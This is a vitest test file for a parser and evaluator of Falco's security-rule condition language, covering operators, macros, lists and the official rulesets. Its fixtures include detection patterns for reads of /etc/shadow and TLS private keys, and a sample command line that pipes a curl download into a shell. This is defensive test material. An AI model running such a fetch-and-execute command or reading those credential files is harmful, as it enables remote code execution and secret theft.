import { readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { ConditionError, parseCondition } from "./condition.js";
import { evaluate, type Fields } from "./evaluate.js";
import { RuleSet } from "./ruleset.js";

/** The Falco project's official rulesets, as published (../shared/vendor/falco-rules). */
const official = join(import.meta.dirname, "..", "..", "..", "shared", "vendor", "falco-rules");
const officialFiles = ["falco_rules.yaml", "falco-incubating_rules.yaml", "falco-sandbox_rules.yaml"];
const read = (file: string) => readFileSync(join(official, file), "utf8");

describe("Falco's condition language", () => {
  it("parses every macro and rule of the official rulesets, each file over the stable rules", () => {
    for (const file of officialFiles) {
      const rules = new RuleSet().load(read("falco_rules.yaml"), "falco_rules.yaml");
      if (file !== "falco_rules.yaml") rules.load(read(file), file);
      const conditions = (read(file).match(/^ {2}condition:/gm) ?? []).length;
      expect(rules.macros.size + rules.rules.size, file).toBeGreaterThanOrEqual(conditions * 0.9);
      // Every macro a condition names is defined: the tree resolves to fields, lists and values.
      const named = new Set<string>();
      const walk = (c: unknown) =>
        JSON.stringify(c, (key, value: unknown) => {
          if (key === "name" && typeof value === "string" && !value.includes(".")) named.add(value);
          return value;
        });
      for (const m of rules.macros.values()) walk(m);
      for (const r of rules.rules.values()) walk(r.condition);
      expect(
        [...named].filter((n) => !rules.macros.has(n)),
        file,
      ).toEqual([]);
    }
  });

  it("reads fields with arguments and transformers, quoted and bare values, lists with commas or blanks", () => {
    expect(parseCondition("proc.aname[2] in (runc:[0:PARENT], 'sh' bash)")).toEqual({
      kind: "list",
      field: { name: "proc.aname", arg: "2", transformer: null, text: "proc.aname[2]" },
      op: "in",
      items: ["runc:[0:PARENT]", "sh", "bash"],
    });
    expect(parseCondition('fd.name=/etc/shadow and not tolower(proc.name) = "it\'s"')).toMatchObject({
      kind: "and",
      items: [
        {
          kind: "compare",
          field: { text: "fd.name" },
          op: "=",
          value: { kind: "literal", value: "/etc/shadow" },
        },
        {
          kind: "not",
          item: {
            kind: "compare",
            field: { name: "proc.name", transformer: "tolower", text: "tolower(proc.name)" },
            value: { value: "it's" },
          },
        },
      ],
    });
    expect(parseCondition("proc.pname exists or proc.name = val(proc.pname)")).toMatchObject({
      kind: "or",
      items: [
        { kind: "exists" },
        { kind: "compare", value: { kind: "field", field: { text: "proc.pname" } } },
      ],
    });
    expect(parseCondition("container.mount.dest[/var/run/docker.sock] != ''")).toMatchObject({
      field: { name: "container.mount.dest", arg: "/var/run/docker.sock" },
    });
  });

  it("refuses what Falco refuses, saying where", () => {
    for (const [source, message] of [
      ["proc.name = ", "expected a value"],
      ["(proc.name = a", "expected ')'"],
      ["proc.name in (a, b", "expected a list item or ')'"],
      ["proc.name resembles x", 'unknown operator "resembles"'],
      ["proc.name = 'open", "unclosed string"],
      ["proc.name = a b", 'unexpected "b"'],
      ["and proc.name = a", '"and" where a check belongs'],
    ] as const) {
      expect(() => parseCondition(source), source).toThrow(ConditionError);
      expect(() => parseCondition(source), source).toThrow(message);
    }
  });
});

describe("evaluating a condition against a recorded event", () => {
  const rules = new RuleSet().load(`
- list: shell_binaries
  items: [bash, sh]
- list: shells_and_more
  items: [shell_binaries, zsh]
- macro: spawned_process
  condition: evt.type in (execve, execveat) and evt.dir=<
- macro: shell_procs
  condition: proc.name in (shells_and_more)
- rule: Shell spawned
  condition: spawned_process and shell_procs and not proc.pname in (sshd)
- macro: shell_procs
  condition: or proc.name = fish
  append: true
`);
  const shell = rules.rules.get("Shell spawned")?.condition;
  const check = (fields: Fields, source = "") =>
    evaluate(source ? parseCondition(source) : (shell ?? parseCondition("x.y exists")), fields, rules);

  it("expands lists named in lists and macros named in conditions, appends included", () => {
    const event = { "evt.type": "execve", "evt.dir": "<", "proc.pname": "runc" };
    expect(check({ ...event, "proc.name": "zsh" })).toEqual({ matches: true, missing: [] });
    expect(check({ ...event, "proc.name": "fish" })).toEqual({ matches: true, missing: [] });
    expect(check({ ...event, "proc.name": "python" })).toEqual({ matches: false, missing: [] });
    expect(check({ ...event, "proc.name": "bash", "proc.pname": "sshd" }).matches).toBe(false);
  });

  it("is unknown, naming the fields, when it turns on what the record did not carry; decided when it does not", () => {
    expect(check({ "evt.type": "execve", "proc.name": "bash", "proc.pname": "runc" })).toEqual({
      matches: null,
      missing: ["evt.dir"],
    });
    // false and unknown is false: the open call decides it whatever evt.dir was.
    expect(check({ "evt.type": "open", "proc.name": "bash" })).toEqual({ matches: false, missing: [] });
    expect(check({ "proc.name": "bash" }, "proc.name = bash or fd.name = /etc/shadow")).toEqual({
      matches: true,
      missing: [],
    });
    expect(check({ "proc.name": "vi" }, "not fd.name = /etc/shadow and proc.name = vi")).toEqual({
      matches: null,
      missing: ["fd.name"],
    });
  });

  it("gives Falco's answer for each operator, and false for a field Falco could not read", () => {
    const fields = {
      "fd.name": "/etc/pki/tls/private/key.pem",
      "proc.cmdline": "Bash -c 'curl http://x | sh'",
      "fd.sport": 4443,
      "proc.args": "-l",
      "fd.types": ["ipv4", "file"],
      "proc.pname": "<NA>",
      "container.id": null,
    };
    const expectations: [string, boolean][] = [
      ["fd.name startswith /etc/pki", true],
      ["fd.name endswith .pem", true],
      ["fd.name contains tls/private", true],
      ["proc.cmdline icontains 'BASH -C'", true],
      ["proc.cmdline istartswith bash", true],
      ["fd.name glob /etc/*.pem", true],
      ["fd.name glob /etc/*.key", false],
      ["fd.name iglob /ETC/PKI/*", true],
      ["fd.name pmatch (/etc/pki, /var)", true],
      ["fd.name pmatch (/etc/pk)", false],
      ["fd.sport > 1024 and fd.sport <= 4443 and fd.sport != 22", true],
      ["fd.sport = 4443.0", true],
      ["fd.name regex '^/etc/[a-z]+/tls'", true],
      ['proc.args intersects ("-V", "-l")', true],
      ["proc.args intersects (-x)", false],
      ["fd.types intersects (file, unix)", true],
      ["fd.types in (file, unix)", false],
      ["fd.types in (file, ipv4, unix)", true],
      ["proc.pname exists", false],
      ["proc.pname != sshd", false],
      ["container.id exists", false],
      ["fd.name exists", true],
    ];
    for (const [source, expected] of expectations)
      expect(evaluate(parseCondition(source), fields, rules), source).toEqual({
        matches: expected,
        missing: [],
      });
  });

  it("runs an official rule against an event it was written for, and one it was not", () => {
    const stable = new RuleSet().load(read("falco_rules.yaml"));
    const rule = stable.rules.get("Read sensitive file untrusted");
    expect(rule).toBeDefined();
    const condition = rule?.condition ?? parseCondition("x.y exists");
    const shadow = evaluate(condition, { "fd.name": "/etc/shadow", "evt.type": "openat" }, stable);
    // What a rule output carries is rarely all its condition reads: unknown, and the fields named.
    expect(shadow.matches).toBeNull();
    expect(shadow.missing).toContain("proc.name");
    const notSensitive = evaluate(condition, { "fd.name": "/tmp/notes", "evt.type": "openat" }, stable);
    expect(notSensitive.matches === false || notSensitive.missing.length > 0).toBe(true);
  });

  it("refuses a macro that refers to itself, naming the loop", () => {
    const loop = new RuleSet().load(`
- macro: a
  condition: b
- macro: b
  condition: a
`);
    expect(() => evaluate(parseCondition("a"), {}, loop)).toThrow("macro a refers to itself: a → b → a");
  });
});
